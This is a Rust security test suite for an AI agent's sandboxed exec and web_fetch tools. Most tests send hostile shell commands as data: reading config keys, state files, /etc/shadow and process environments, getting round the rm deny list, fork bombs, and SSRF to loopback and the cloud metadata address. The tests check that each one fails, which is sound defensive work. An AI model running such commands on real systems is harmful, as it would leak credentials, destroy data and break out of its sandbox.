//! The exec sandbox under attack: every attempt goes through the real `exec`
//! tool (the `ToolRegistry`, as the agent calls it, with the real
//! `bramble sandbox-exec` helper) or the real binary, and must fail safely
//! while bramble keeps running. SECURITY.md has the table of these tests.
//!
//! Layers depend on the kernel. [`layers`] reads what this kernel offers and
//! the tests assert the strongest outcome available; a kernel with neither
//! the namespace jail nor Landlock fails the filesystem tests loudly instead of
//! skipping them.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::support::fake_llm::{Dialect, FakeLlm, Reply};
use crate::support::setup::TestHome;
use bramble::config::{Config, ExecConfig, Network, WebConfig};
use bramble::provider::ToolCall;
use bramble::sandbox::{Probe, Sandbox};
use bramble::tools::exec::ExecTool;
use bramble::tools::web::WebFetch;
use bramble::tools::{ToolContext, ToolOutcome, ToolRegistry};

/// Point the library at the real binary as its helper.
fn layers() -> Arc<Probe> {
    crate::support::setup::real_sandbox();
    let p = Sandbox::new().probe();
    assert!(p.helper.is_ok(), "the helper must be found: {:?}", p.helper);
    p
}

/// A workspace with bramble's private files next to it and a victim directory outside.
struct Setup {
    _tmp: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
    state: PathBuf,
    config: PathBuf,
    registry: ToolRegistry,
    sandbox: Arc<Sandbox>,
}

const SECRET_IN_CONFIG: &str = "sk-config-secret-0123456789";
const SECRET_IN_STATE: &str = "state-secret-9876543210";

impl Setup {
    fn new(cfg: ExecConfig) -> Setup {
        layers();
        // Not under /tmp (the command gets a fresh one): here the hidden paths are really covered.
        let tmp = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let ws = tmp.path().join("workspace");
        let outside = tmp.path().join("outside");
        let state = tmp.path().join("state");
        for d in [&ws, &outside, &state] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(outside.join("x"), "original").unwrap();
        std::fs::write(state.join("session.jsonl"), SECRET_IN_STATE).unwrap();
        let config = tmp.path().join("config.toml");
        std::fs::write(&config, format!("[provider]\napi_key = \"{SECRET_IN_CONFIG}\"\n")).unwrap();
        let sandbox = Arc::new(Sandbox::new().protect([state.clone(), config.clone()]));
        let mut registry = ToolRegistry::new(200_000);
        registry.register(Arc::new(ExecTool::new(cfg, ws.clone(), sandbox.clone())));
        Setup { _tmp: tmp, ws, outside, state, config, registry, sandbox }
    }

    async fn exec(&self, command: &str) -> ToolOutcome {
        let args = serde_json::json!({ "command": command }).to_string();
        self.registry.execute(&ToolCall::new("c1", "exec", args), &ToolContext::detached("security")).await
    }

    fn outside_untouched(&self) {
        assert_eq!(std::fs::read_to_string(self.outside.join("x")).unwrap(), "original");
        let mut names: Vec<_> = std::fs::read_dir(&self.outside).unwrap().flatten().map(|e| e.file_name()).collect();
        names.sort();
        assert_eq!(names, ["x"], "nothing was created outside");
    }
}

/// Both filesystem layers are asserted where they exist; with neither, containment cannot hold.
fn require_fs_layer(p: &Probe) {
    assert!(
        p.jail_available() || p.landlock_abi().is_some(),
        "this kernel offers neither user namespaces nor Landlock: writes outside the workspace are NOT contained"
    );
}

#[tokio::test]
async fn writing_inside_the_workspace_works() {
    // The control for every test below: the sandbox does not simply break commands.
    let s = Setup::new(ExecConfig::default());
    let out = s.exec("echo ok > inside.txt && mkdir -p d/e && echo deep > d/e/f && cat inside.txt d/e/f").await;
    assert_eq!(out.text, "ok\ndeep\nExit code: 0", "{out:?}");
    assert_eq!(std::fs::read_to_string(s.ws.join("inside.txt")).unwrap(), "ok\n");
    let out = s.exec("echo tmp > /tmp/t && cat /tmp/t && echo > /dev/null && echo devnull").await;
    assert_eq!(out.text, "tmp\ndevnull\nExit code: 0", "{out:?}");
}

#[tokio::test]
async fn write_outside_by_absolute_path_fails() {
    let p = layers();
    require_fs_layer(&p);
    let s = Setup::new(ExecConfig::default());
    let o = s.outside.display();
    let out = s.exec(&format!("echo pwned > {o}/x; echo pwned > {o}/new; echo pwned > /etc/bramble-pwned")).await;
    assert!(!out.is_error, "{out:?}");
    assert!(!out.text.ends_with("Exit code: 0"), "{out:?}");
    s.outside_untouched();
    assert!(!Path::new("/etc/bramble-pwned").exists());
}

#[tokio::test]
async fn write_outside_by_dotdot_fails() {
    require_fs_layer(&layers());
    let s = Setup::new(ExecConfig::default());
    let out = s.exec("echo pwned > ../outside/x; cd .. && echo pwned > outside/y; echo pwned > ../../escaped").await;
    assert!(!out.is_error, "{out:?}");
    s.outside_untouched();
    assert!(!s.ws.parent().unwrap().parent().unwrap().join("escaped").exists());
}

#[tokio::test]
async fn write_through_a_planted_symlink_fails() {
    require_fs_layer(&layers());
    let s = Setup::new(ExecConfig::default());
    std::os::unix::fs::symlink(&s.outside, s.ws.join("out")).unwrap();
    std::os::unix::fs::symlink(s.outside.join("x"), s.ws.join("xl")).unwrap();
    let out = s
        .exec("echo pwned > out/new; echo pwned > xl; echo pwned >> out/x; ln -sf /etc/passwd mine; echo >> mine")
        .await;
    assert!(!out.is_error, "{out:?}");
    s.outside_untouched();
}

#[tokio::test]
async fn hard_links_to_outside_files_cannot_be_made() {
    require_fs_layer(&layers());
    let s = Setup::new(ExecConfig::default());
    let o = s.outside.display();
    let out = s.exec(&format!("ln ../outside/x hl1; ln {o}/x hl2; ln /etc/passwd hl3; ls")).await;
    assert!(out.text.ends_with("Exit code: 0") || out.text.contains("Exit code"), "{out:?}");
    for name in ["hl1", "hl2", "hl3"] {
        assert!(!s.ws.join(name).exists(), "{name} was created: {out:?}");
    }
    s.outside_untouched();
}

#[tokio::test]
async fn config_state_and_shadow_cannot_be_read() {
    require_fs_layer(&layers());
    let s = Setup::new(ExecConfig::default());
    let cmd = format!(
        "cat {c}; ls -la {st}; cat {st}/session.jsonl; cat /etc/shadow; grep -r sk-config {root} 2>/dev/null",
        c = s.config.display(),
        st = s.state.display(),
        root = s.config.parent().unwrap().display()
    );
    let out = s.exec(&cmd).await;
    assert!(!out.text.contains(SECRET_IN_CONFIG), "{out:?}");
    assert!(!out.text.contains(SECRET_IN_STATE), "{out:?}");
    // Hidden by the jail (ENOENT, empty) and by Landlock (EACCES), whichever answers first.
    assert!(out.text.contains(&format!("cat: {}: ", s.config.display())), "{out:?}");
    assert!(!out.text.contains("root:"), "shadow leaked: {out:?}");
}

#[tokio::test]
async fn deny_list_bypasses_are_contained_by_the_kernel() {
    require_fs_layer(&layers());
    let s = Setup::new(ExecConfig::default());
    let o = s.outside.display();
    for cmd in [format!("rm --recursive --force {o}"), format!("c=rm; $c -rf {o}"), format!("$(echo r)m -rf {o}")] {
        let out = s.exec(&cmd).await;
        assert!(!out.is_error, "{cmd}: {out:?}");
        s.outside_untouched();
    }
    // The same tricks work where they are allowed: it is the kernel saying no, not a pattern.
    std::fs::create_dir_all(s.ws.join("victim/sub")).unwrap();
    let out = s.exec("$(echo r)m -rf victim && echo gone").await;
    assert_eq!(out.text, "gone\nExit code: 0");
    // The friendly early refusal for the obvious form.
    let out = s.exec("rm -rf /").await;
    assert!(out.is_error && out.text.starts_with("Error: refused: this looks like deleting"), "{out:?}");
}

/// Live (non-zombie) processes whose command line contains `marker`.
fn live_with(marker: &str) -> usize {
    let mut n = 0;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let dir = entry.path();
        let Ok(cmdline) = std::fs::read(dir.join("cmdline")) else { continue };
        let zombie = std::fs::read_to_string(dir.join("stat"))
            .map(|s| s.rsplit_once(')').is_some_and(|(_, r)| r.trim_start().starts_with('Z')))
            .unwrap_or(true);
        if !zombie && String::from_utf8_lossy(&cmdline).contains(marker) {
            n += 1;
        }
    }
    n
}

async fn assert_none_left(marker: &str) {
    for _ in 0..100 {
        if live_with(marker) == 0 {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("{} processes with {marker} still running", live_with(marker));
}

#[tokio::test]
async fn fork_bomb_is_contained_and_the_next_command_runs() {
    layers();
    let cfg = ExecConfig { max_processes: 64, timeout: bramble::config::Dur::secs(10), ..ExecConfig::default() };
    let s = Setup::new(cfg);
    let marker = format!("bomb{}", std::process::id());
    // A bomb the deny list does not recognise (it only knows the classic `:(){ :|:& };:`).
    let out = s.exec(&format!("{marker}(){{ {marker}|{marker}& }}; {marker}; sleep 2; echo survived")).await;
    assert!(!out.is_error, "{out:?}");
    assert_none_left(&marker).await;
    let out = s.exec("echo alive").await;
    assert_eq!(out.text, "alive\nExit code: 0");
}

#[tokio::test]
async fn memory_hog_is_refused_memory() {
    layers();
    let s = Setup::new(ExecConfig { max_memory_mb: 64, ..ExecConfig::default() });
    let out = s.exec("x=$(head -c 300000000 /dev/zero | tr '\\0' a); echo len=${#x}").await;
    assert!(!out.text.contains("len=300000000"), "{out:?}");
    assert!(!out.text.ends_with("Exit code: 0"), "{out:?}");
}

#[tokio::test]
async fn cpu_spin_is_killed_at_the_cpu_limit() {
    layers();
    let s =
        Setup::new(ExecConfig { max_cpu_seconds: 1, timeout: bramble::config::Dur::secs(30), ..ExecConfig::default() });
    let started = Instant::now();
    let out = s.exec("while :; do :; done").await;
    assert!(out.text.starts_with("Killed by signal"), "{out:?}");
    assert!(!out.text.contains("Timed out"), "{out:?}");
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[tokio::test]
async fn background_child_does_not_outlive_the_command() {
    layers();
    let s = Setup::new(ExecConfig::default());
    let marker = format!("1000.{}77", std::process::id());
    let out = s.exec(&format!("sleep {marker} & echo started")).await;
    assert_eq!(out.text, "started\nExit code: 0");
    assert_none_left(&marker).await;
}

fn rss_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[tokio::test]
async fn hundred_megabytes_of_output_keep_memory_flat() {
    // The process's RSS is the measure: alone in a child, no other test allocates beside it.
    if !crate::support::env::in_child(
        concat!(module_path!(), "::hundred_megabytes_of_output_keep_memory_flat"),
        &[],
        &[],
    ) {
        return;
    }
    layers();
    let s = Setup::new(ExecConfig::default());
    s.exec("true").await;
    let before = rss_kib();
    let out = s.exec("head -c 100000000 /dev/zero | tr '\\0' a; echo; echo END").await;
    let grew = rss_kib().saturating_sub(before);
    assert!(out.text.contains("characters truncated") || out.text.contains("bytes truncated"), "{}", out.text.len());
    assert!(out.text.ends_with("END\nExit code: 0"));
    assert!(out.text.len() < 100_000, "{}", out.text.len());
    // The stream passed through a fixed-size buffer: 100 MB did not land in our memory.
    assert!(grew < 20 * 1024, "RSS grew by {grew} KiB");
}

#[tokio::test]
async fn secrets_in_the_environment_and_proc_are_unreachable() {
    // The secrets are in this process's environment: the test runs in a child started with them.
    let secrets = [("OPENAI_API_KEY", "sk-env-secret-424242"), ("BRAMBLE_TELEGRAM_TOKEN", "123456:tg-secret-token")];
    let test = concat!(module_path!(), "::secrets_in_the_environment_and_proc_are_unreachable");
    if !crate::support::env::in_child(test, &secrets, &[]) {
        return;
    }
    let p = layers();
    let s = Setup::new(ExecConfig::default());
    let me = std::process::id();
    let out = s
        .exec(&format!(
            "env; tr '\\0' '\\n' < /proc/{me}/environ; tr '\\0' '\\n' < /proc/$PPID/environ; \
             for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; echo checked"
        ))
        .await;
    assert!(out.text.contains("checked"), "{out:?}");
    for secret in ["sk-env-secret-424242", "tg-secret-token"] {
        assert!(!out.text.contains(secret), "{secret} leaked: {out:?}");
    }
    if p.jail_available() {
        // A fresh /proc for the pid namespace: bramble's pid does not exist in there.
        let out =
            s.exec(&format!("test -e /proc/{me} && echo visible || echo absent; ls /proc | grep -c '^[0-9]'")).await;
        assert!(out.text.starts_with("absent\n"), "{out:?}");
    }
}

#[tokio::test]
async fn network_is_off_when_disabled() {
    let p = layers();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let probe = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED'");

    // Control: with the whole network on, the same command reaches the listener.
    let on = Setup::new(ExecConfig { network: Network::All, ..ExecConfig::default() });
    let out = on.exec(&probe).await;
    assert!(out.text.starts_with("CONNECTED"), "{out:?}");
    assert!(listener.accept().is_ok(), "the control connection arrived");

    let off = Setup::new(ExecConfig { network: Network::None, ..ExecConfig::default() });
    let out = off.exec(&probe).await;
    assert!(!out.text.contains("CONNECTED"), "{out:?}");
    assert!(listener.accept().is_err(), "no connection arrived");
    assert!(p.jail_available() || p.landlock_abi().is_some_and(|v| v >= 4), "no layer can take the network away");
    // The seccomp filter answers first: no socket but AF_UNIX can even be created.
    assert!(out.text.contains("Address family not supported"), "{out:?}");
    if p.jail_available() {
        // An empty network namespace: only a loopback interface that is down.
        let out = off.exec("cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '").await;
        assert_eq!(out.text, "lo\nExit code: 0");
    }
}

#[tokio::test]
async fn commands_never_run_as_root_or_with_capabilities() {
    let p = layers();
    let s = Setup::new(ExecConfig::default());
    let out = s.exec("id -u; grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status | tr -s '\\t' ' '").await;
    let lines: Vec<&str> = out.text.lines().collect();
    let uid: u32 = lines[0].parse().unwrap();
    if p.root {
        let nobody = nix::unistd::User::from_name("nobody").unwrap().unwrap().uid.as_raw();
        assert_eq!(uid, nobody, "{out:?}");
        // No user namespace in the root case: this uid is the real one, outside any namespace.
        let out = s.exec("cat /proc/self/uid_map").await;
        assert!(out.text.starts_with("         0          0 4294967295"), "{out:?}");
    } else {
        assert_eq!(uid, nix::unistd::geteuid().as_raw(), "{out:?}");
    }
    assert_ne!(uid, 0);
    assert!(out.text.contains("CapEff: 0000000000000000"), "{out:?}");
    assert!(out.text.contains("CapPrm: 0000000000000000"), "{out:?}");
    assert!(out.text.contains("NoNewPrivs: 1"), "{out:?}");
}

#[tokio::test]
async fn a_failing_layer_is_an_error_the_model_reads() {
    let p = layers();
    // One open file: the helper cannot even make its first socket (the network
    // proxy's loopback) or, with the network off, its status pipe.
    for network in [Network::Auto, Network::None] {
        let s = Setup::new(ExecConfig { max_open_files: 1, network, ..ExecConfig::default() });
        let out = s.exec("echo never").await;
        if !p.jail_available() {
            assert!(!out.text.contains("never\nExit code: 0"), "{out:?}");
            continue;
        }
        assert!(out.is_error, "{out:?}");
        let first = if network == Network::None { "pipe" } else { "cannot bring up the command's loopback" };
        assert!(out.text.starts_with(&format!("Error: sandbox: {first}: Too many open files")), "{out:?}");
    }
    if p.root {
        let s = Setup::new(ExecConfig { run_as_user: "no-such-user-bramble".into(), ..ExecConfig::default() });
        let out = s.exec("echo never").await;
        assert_eq!(
            out.text, "Error: sandbox: [exec] run_as_user `no-such-user-bramble` does not exist on this system",
            "{out:?}"
        );
    }
    // bramble (this process) is fine and the next command runs.
    let s = Setup::new(ExecConfig::default());
    assert_eq!(s.exec("echo fine").await.text, "fine\nExit code: 0");
}

// ---------------------------------------------------------------- SSRF (more in tests/tools.rs)

#[tokio::test]
async fn web_fetch_refuses_loopback_metadata_and_private_names() {
    let mut registry = ToolRegistry::new(10_000);
    bramble::install_crypto();
    let cfg = WebConfig::default();
    registry.register(Arc::new(WebFetch::new(&cfg, Arc::new(bramble::tools::web::GuardedHttp::new(&cfg)))));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    for url in [
        format!("http://127.0.0.1:{port}/"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        format!("http://localhost:{port}/"),
        "http://[::1]/".to_string(),
    ] {
        let args = serde_json::json!({ "url": url }).to_string();
        let out = registry.execute(&ToolCall::new("w", "web_fetch", args), &ToolContext::detached("security")).await;
        assert!(out.is_error && out.text.contains("private"), "{url}: {out:?}");
    }
    let accepted = tokio::time::timeout(Duration::from_millis(100), listener.accept()).await;
    assert!(accepted.is_err(), "web_fetch connected to the loopback listener");
}

// ---------------------------------------------------------------- the real binary

#[tokio::test]
async fn agent_binary_exec_cannot_read_its_own_secrets() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    std::fs::create_dir_all(&home.state).unwrap();
    std::fs::write(home.state.join("secret.txt"), SECRET_IN_STATE).unwrap();
    let cmd = format!(
        "cat {cfg}; cat {st}/secret.txt; tr '\\0' '\\n' < /proc/$PPID/environ; env; id -u",
        cfg = home.config.display(),
        st = home.state.display()
    );
    fake.push(Reply::tool_call("exec", serde_json::json!({ "command": cmd }).to_string()));
    fake.push(Reply::text("done"));
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
        .args(["--config", home.config.to_str().unwrap(), "agent", "-m", "try it"])
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("BRAMBLE_TELEGRAM_TOKEN", "987654:tg-binary-secret")
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(60), out).await.unwrap().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "done\n");
    let requests = fake.requests();
    let seen = serde_json::to_string(&requests[1]).unwrap();
    assert!(seen.contains("Exit code"), "the tool result reached the model: {seen}");
    for secret in ["test-key", SECRET_IN_STATE, "tg-binary-secret"] {
        assert!(!seen.contains(secret), "{secret} leaked to the model: {seen}");
    }
}

// ---------------------------------------------------------------- fuzz-style (deterministic)

/// xorshift64*: deterministic, no crate needed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn pick<'a>(&mut self, items: &'a [&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

/// Truncations at every char boundary, then random edits drawn from `alphabet`.
fn mutations(seed: &str, rng: &mut Rng, edits: usize, alphabet: &[&str]) -> Vec<String> {
    let mut out: Vec<String> =
        (0..=seed.len()).filter(|&i| seed.is_char_boundary(i)).map(|i| seed[..i].into()).collect();
    for _ in 0..edits {
        let mut s = seed.to_string();
        for _ in 0..1 + rng.below(4) {
            let mut at = rng.below(s.len() + 1);
            while !s.is_char_boundary(at) {
                at -= 1;
            }
            match rng.below(3) {
                0 => s.insert_str(at, rng.pick(alphabet)),
                1 if at < s.len() => {
                    let end = (at + 1 + rng.below(8)).min(s.len());
                    let end = (end..=s.len()).find(|&e| s.is_char_boundary(e)).unwrap_or(s.len());
                    s.replace_range(at..end, "");
                }
                _ => s.truncate(at),
            }
        }
        out.push(s);
    }
    out
}

const CONFIG_SEED: &str = r#"
[agent]
model = "llama3.2"
workspace = "~/ws"
timezone = "Europe/Berlin"
max_iterations = 10
[provider]
kind = "anthropic"
base_url = "http://192.168.1.10:11434/v1"
timeout = "2m"
extra_headers = { "X-A" = "b" }
[heartbeat]
every = "15m"
deliver = ["telegram:123", "mqtt", "log"]
quiet_hours = "23:00-07:00"
[exec]
network = false
isolation = "required"
max_memory_mb = 512
env_allow = ["TZ"]
[web]
allow_private = ["192.168.1.0/24", "fd00::/8"]
[mqtt]
url = "mqtts://broker.lan:8883"
[[mqtt.trigger]]
topic = "home/door"
exec = "echo door"
min_interval = "5s"
"#;

#[test]
fn fuzzed_config_text_never_panics() {
    let path = Path::new("/etc/bramble/config.toml");
    assert!(Config::parse(CONFIG_SEED, path).is_ok(), "the seed is valid");
    let alphabet = [
        "[",
        "]",
        "=",
        "\"",
        "'",
        "\n",
        "{",
        "}",
        ",",
        ".",
        "-",
        "0",
        "99999999999999999999",
        "é",
        "\u{0}",
        "[[",
        "#",
        "\\u",
    ];
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    let mut errors = 0;
    for text in mutations(CONFIG_SEED, &mut rng, 3000, &alphabet) {
        if let Err(e) = Config::parse(&text, path) {
            errors += 1;
            let msg = e.to_string();
            assert!(msg.starts_with("/etc/bramble/config.toml:"), "{msg}");
        }
    }
    assert!(errors > 100, "mutations produced errors ({errors})");
}

#[tokio::test]
async fn fuzzed_tool_arguments_never_panic() {
    let s = Setup::new(ExecConfig::default());
    let mut registry = ToolRegistry::new(10_000);
    for t in bramble::tools::fs::fs_tools(&s.ws) {
        registry.register(t);
    }
    registry.register(Arc::new(ExecTool::new(ExecConfig::default(), s.ws.clone(), s.sandbox.clone())));
    let seeds = [
        ("exec", r#"{"command":"echo fuzz","timeout":5,"working_dir":""}"#, 60),
        ("write_file", r#"{"path":"fuzz/a.txt","content":"x\u00e9\n"}"#, 400),
        ("read_file", r#"{"path":"fuzz/a.txt","offset":1,"limit":2}"#, 400),
        ("edit_file", r#"{"path":"fuzz/a.txt","old_text":"x","new_text":"y","replace_all":true}"#, 400),
        ("list_dir", r#"{"path":"fuzz"}"#, 400),
        ("no_such_tool", r#"{"a":1}"#, 20),
    ];
    let alphabet = ["{", "}", "[", "]", "\"", ":", ",", "null", "true", "-1", "1e999", "\\u0000", "\\ud800", "..", "/"];
    let mut rng = Rng(0xfeed_beef_0000_0001);
    let ctx = ToolContext::detached("fuzz");
    let mut calls = 0;
    for (tool, seed, edits) in seeds {
        for args in mutations(seed, &mut rng, edits, &alphabet) {
            let out = registry.execute(&ToolCall::new("f", tool, args), &ctx).await;
            assert!(!out.text.is_empty());
            calls += 1;
        }
    }
    // Random JSON values of any shape as arguments.
    for _ in 0..300 {
        let value = random_json(&mut rng, 3);
        let tool = rng.pick(&["read_file", "write_file", "list_dir", "edit_file"]);
        let out = registry.execute(&ToolCall::new("f", tool, value.to_string()), &ctx).await;
        assert!(!out.text.is_empty());
        calls += 1;
    }
    assert!(calls > 1500);
    // Nothing escaped the workspace while fuzzing.
    s.outside_untouched();
}

fn random_json(rng: &mut Rng, depth: u32) -> serde_json::Value {
    use serde_json::{json, Value};
    match rng.below(if depth == 0 { 4 } else { 6 }) {
        0 => Value::Null,
        1 => json!(rng.next() as i64),
        2 => json!(rng.pick(&["", "a", "../x", "/etc/passwd", "~", "\u{0}", "fuzz/a.txt"])),
        3 => json!(rng.below(2) == 0),
        4 => Value::Array((0..rng.below(4)).map(|_| random_json(rng, depth - 1)).collect()),
        _ => {
            let keys = ["path", "content", "old_text", "new_text", "offset", "limit", "command", "x"];
            let mut m = serde_json::Map::new();
            for _ in 0..rng.below(5) {
                m.insert(rng.pick(&keys).to_string(), random_json(rng, depth - 1));
            }
            Value::Object(m)
        }
    }
}

#[tokio::test]
async fn systemd_layout_workspace_inside_the_hidden_state_dir() {
    // Under systemd the workspace is /var/lib/bramble/workspace: inside the state directory.
    require_fs_layer(&layers());
    let tmp = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let state = tmp.path().join("state");
    let ws = state.join("workspace");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(state.join("outbox.jsonl"), SECRET_IN_STATE).unwrap();
    let sandbox = Arc::new(Sandbox::new().protect([state.clone()]));
    let mut registry = ToolRegistry::new(10_000);
    registry.register(Arc::new(ExecTool::new(ExecConfig::default(), ws.clone(), sandbox)));
    let cmd = format!("echo kept > note.txt; cat note.txt; cat {s}/outbox.jsonl; ls {s}", s = state.display());
    let args = serde_json::json!({ "command": cmd }).to_string();
    let out = registry.execute(&ToolCall::new("c", "exec", args), &ToolContext::detached("security")).await;
    assert!(out.text.starts_with("kept\n"), "{out:?}");
    assert!(!out.text.contains(SECRET_IN_STATE) && !out.text.contains("outbox.jsonl\n"), "{out:?}");
    assert_eq!(std::fs::read_to_string(ws.join("note.txt")).unwrap(), "kept\n");
}

#[tokio::test]
async fn masked_proc_gives_an_empty_proc_not_the_hosts() {
    // systemd's ProtectKernelTunables (and containers) mask parts of /proc from a more privileged
    // namespace; the kernel then refuses a fresh /proc to a user namespace. The command must get
    // no /proc at all, never the host's. Staging that needs root (a mount namespace of our own,
    // then the helper as an unprivileged user); CI runs as root.
    let p = layers();
    assert!(p.jail_available(), "this kernel has no namespace jail: {:?}", p.namespaces);
    if !p.root {
        eprintln!("NOTE: masked_proc_gives_an_empty_proc_not_the_hosts stages its /proc as root only");
        return;
    }
    // Under /tmp with a copy of the helper: `nobody` must reach both, wherever CI cloned us.
    let ws = tempfile::tempdir().unwrap();
    let mode = |m| <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(m);
    std::fs::set_permissions(ws.path(), mode(0o777)).unwrap();
    let helper = ws.path().join("bramble");
    std::fs::copy(env!("CARGO_BIN_EXE_bramble"), &helper).unwrap();
    std::fs::set_permissions(&helper, mode(0o755)).unwrap();
    let helper = helper.display();
    let inner = format!(
        "mount --bind /proc/sys /proc/sys && setpriv --reuid 65534 --regid 65534 --clear-groups \
         {helper} sandbox-exec --ns --workspace {w} --cwd {w} -- /bin/sh -c 'ls -A /proc | wc -l; echo ok > f; cat f'",
        w = ws.path().display()
    );
    let out = tokio::process::Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", &inner])
        .output()
        .await
        .expect("util-linux unshare");
    assert!(out.status.success(), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "0\nok\n", "{out:?}");
}

#[tokio::test]
async fn status_names_the_active_layers() {
    let p = layers();
    let home = TestHome::new("openai", "http://127.0.0.1:9/v1", "", "", "");
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
        .args(["--config", home.config.to_str().unwrap(), "status"])
        .env_clear()
        .env("HOME", home.path())
        .output()
        .await
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text.lines().find(|l| l.starts_with("sandbox:")).unwrap_or_else(|| panic!("{text}"));
    if p.jail_available() {
        assert!(line.contains("namespaces (") && line.contains("hidden state/config"), "{line}");
    } else {
        assert!(line.contains("namespaces UNAVAILABLE"), "{line}");
    }
    assert!(line.contains("no_new_privs"), "{line}");
    match &p.landlock {
        Ok(v) => assert!(line.contains(&format!("Landlock ABI {v}")), "{line}"),
        Err(why) => assert!(line.contains(&why.to_string()), "{line}"),
    }
    if p.root {
        assert!(line.contains("runs as nobody:nogroup"), "{line}");
    }
}

/// One `bramble agent -m` turn whose model runs `command` through exec; returns the tool
/// result the model saw and bramble's stderr.
async fn agent_exec(extra_config: &str, env: &[(&str, &str)], command: &str) -> (String, String) {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", extra_config);
    fake.push(Reply::tool_call("exec", serde_json::json!({ "command": command }).to_string()));
    fake.push(Reply::text("done"));
    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"));
    cmd.args(["--config", home.config.to_str().unwrap(), "agent", "-m", "go"])
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .kill_on_drop(true);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = tokio::time::timeout(Duration::from_secs(60), cmd.output()).await.unwrap().unwrap();
    assert!(out.status.success(), "{out:?}");
    let requests = fake.requests();
    let messages = requests[1]["messages"].as_array().cloned().unwrap_or_default();
    let tool = messages.iter().rev().find(|m| m["role"] == "tool").cloned().unwrap_or_default();
    (tool["content"].as_str().unwrap_or_default().to_string(), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// A model's next command runs in a jail built while the model thought
/// (`bramble::sandbox::Sandbox::run`, in the terminal chat and the daemon): every layer
/// is there, the command's own working directory is used, and init — pid 1 of
/// its pid namespace — is older than the command by the model's pause.
#[tokio::test]
async fn the_next_jail_is_built_ahead_with_every_layer() {
    let p = layers();
    if !p.jail_available() || p.proc_hidden {
        eprintln!("skipped: needs the namespace jail with a /proc of its own");
        return;
    }
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    let look = "set -- $(awk '{print $22}' /proc/1/stat /proc/self/stat); echo \"init-age $(( $2 - $1 ))\"; pwd; \
                grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\\t' ' '; echo proxy=${http_proxy:+set}; \
                ls /tmp | wc -l";
    let first = serde_json::json!({ "command": format!("mkdir -p sub; touch /tmp/left-behind; {look}") });
    let second = serde_json::json!({ "command": look, "working_dir": "sub" });
    fake.push(Reply::tool_call("exec", first.to_string()));
    fake.push(Reply::Delayed(Duration::from_millis(700), Box::new(Reply::tool_call("exec", second.to_string()))));
    fake.push(Reply::text("done"));
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
        .args(["--config", home.config.to_str().unwrap(), "agent"])
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    {
        use tokio::io::AsyncWriteExt;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"go\n").await.unwrap();
    } // EOF after the turn: the chat ends.
    let out = tokio::time::timeout(Duration::from_secs(60), child.wait_with_output()).await.unwrap().unwrap();
    assert!(out.status.success(), "{out:?}");
    let requests = fake.requests();
    let result = |i: usize| -> String {
        let messages = requests[i]["messages"].as_array().cloned().unwrap_or_default();
        let tool = messages.iter().rev().find(|m| m["role"] == "tool").cloned().unwrap_or_default();
        tool["content"].as_str().unwrap_or_default().to_string()
    };
    let (cold, warm) = (result(1), result(2));
    let age = |text: &str| -> i64 {
        let line = text.lines().find_map(|l| l.strip_prefix("init-age ")).unwrap_or_else(|| panic!("{text}"));
